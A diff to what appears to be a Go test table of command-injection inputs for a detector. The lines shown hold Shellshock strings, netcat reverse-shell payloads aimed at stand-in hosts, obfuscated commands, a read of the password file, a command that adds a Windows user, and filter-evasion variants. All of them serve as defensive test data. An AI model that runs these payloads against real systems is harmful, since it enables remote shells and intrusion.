@@ -49,7 +49,7 @@ var checkCases = []struct {
 		"() { :; }; echo ; /bin/bash -c 'ls'", "() { }; /bin/id", " () {}; echo vulnerable", "x=() { :;}; id", "$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
 		"`curl -L http://x.example`", "127.0.0.1; whoami", "a | nc -e /bin/sh 10.0.0.1 4444", "x; sleep$IFS5",
 		"echo $((3482*7301))", " ls /etc",
-		"127.0.0.1;id", "127.0.0.1|id", "1 || pwd", ";id", "report.pdf|id", "; sleep 10 ;", "||sleep 10||", "x & net user hacker P@ss /add", "1; sleep 10", "a.txt|sleep 10", "x;sleep 5", "a;sleep 10;", "abc|sleep 3", "x;/bin/sh", "x & net user",
+		"127.0.0.1;id", "127.0.0.1|id", "1 || pwd", ";id", "report.pdf|id", "; sleep 10 ;", "||sleep 10||", "x & net user hacker P@ss /add", "1; sleep 10", "a.txt|sleep 10", "x;sleep 5", "a;sleep 10;", "abc|sleep 3", "xyz;id;", "abc|id #", "foo;pwd;", "x;/bin/sh", "x & net user",
 		"x | nc evil.example 4444 -e /bin/sh", "x;w'h'o'am'i", "x;wh$@oami", `x;who\ami`, "x;/???/?at /???/p??swd",
 		"127.0.0.1\nid", "1;ping 10.0.0.1", "127.0.0.1`id`", "x=`whoami`", "see `curl -L http://x.example` now",
 		"x;{id,}", "x;{curl,evil.example}", "x;wh``oami", "x;wh$()oami", "a;$0 -c id", "x;exec id", "x;eval id",
